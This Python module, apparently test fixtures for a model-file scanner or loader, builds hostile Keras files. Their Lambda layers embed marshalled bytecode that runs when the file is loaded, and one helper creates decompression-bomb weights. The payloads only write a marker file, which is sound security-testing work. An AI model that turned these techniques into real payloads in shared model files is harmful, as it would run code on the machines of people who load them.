"""Hostile Keras files, written byte by byte: no Keras is needed to make one. Their payloads write a marker file."""

import base64
import io
import json
import marshal
import zipfile
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Json = dict[str, Any]


def layer(kind: str, name: str, module: str = "keras.layers", **config: Any) -> Json:
    return {"module": module, "class_name": kind, "config": {"name": name, **config}, "registered_name": None}


def entry(shape: tuple[int, ...] = (4,)) -> Json:
    return layer("InputLayer", "z", batch_shape=[None, *shape], dtype="float32")


def model(*layers: Json, shape: tuple[int, ...] = (4,), name: str = "g") -> Json:
    """A Sequential as Keras 3 writes it."""
    config = {"name": name, "trainable": True, "layers": [entry(shape), *layers]}
    return {"module": "keras", "class_name": "Sequential", "config": config, "registered_name": None}


def no_weights() -> bytes:
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("layers")
        file.create_group("vars")
    return out.getvalue()


def keras_zip(path: Path, config: Json, weights: bytes | None = None, **more: bytes) -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "3.15.1", "date_saved": "2026-01-01"}))
        archive.writestr("config.json", json.dumps(config))
        archive.writestr("model.weights.h5", no_weights() if weights is None else weights)
        for name, data in more.items():
            archive.writestr(name, data)
    return path


def keras_h5(path: Path, config: Json) -> Path:
    with h5py.File(path, "w") as file:
        file.attrs["keras_version"], file.attrs["backend"] = "2.12.0", "tensorflow"
        file.attrs["model_config"] = json.dumps(config)
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = np.array([], "S1")
        group.attrs["backend"], group.attrs["keras_version"] = "tensorflow", "2.12.0"
    return path


def code(marker: Path) -> str:
    """x -> x, which leaves the marker behind: the byte code of a function, as Keras writes a Lambda's."""
    space: Json = {}
    exec(f"f = lambda x: (__import__('pathlib').Path({str(marker)!r}).write_text('it ran'), x)[1]", space)
    return base64.b64encode(marshal.dumps(space["f"].__code__)).decode()


def lambda_layer(marker: Path, name: str = "innocent") -> Json:
    function = {"class_name": "__lambda__", "config": {"code": code(marker), "defaults": None, "closure": None}}
    return layer("Lambda", name, function=function, arguments={}, output_shape=[4])


def lambda_keras2(marker: Path) -> Json:
    config = {"name": "innocent", "function": [code(marker), None, None], "function_type": "lambda",
              "output_shape": None, "output_shape_type": "raw", "arguments": {}}  # fmt: skip
    return {"class_name": "Lambda", "config": config}


def sequential_keras2(*layers: Json) -> Json:
    first = {"class_name": "InputLayer", "config": {"batch_input_shape": [None, 4], "name": "z", "dtype": "float32"}}
    return {"class_name": "Sequential", "config": {"name": "g", "layers": [first, *layers]}}


def public_function(module: str, function: str, arguments: Json, shape: tuple[int, ...] = (4,)) -> Json:
    """A Lambda that names a function of Keras: no code in the file at all."""
    named = {"module": module, "class_name": "function", "config": function, "registered_name": function}
    return layer("Lambda", "innocent", function=named, arguments=arguments, output_shape=list(shape))


def bomb(shape: tuple[int, ...]) -> bytes:
    """Weights that declare far more than they store."""
    out = io.BytesIO()
    with h5py.File(out, "w") as file:
        file.create_group("layers/dense/vars").create_dataset("0", shape, "f4", chunks=True, compression="gzip")
    return out.getvalue()
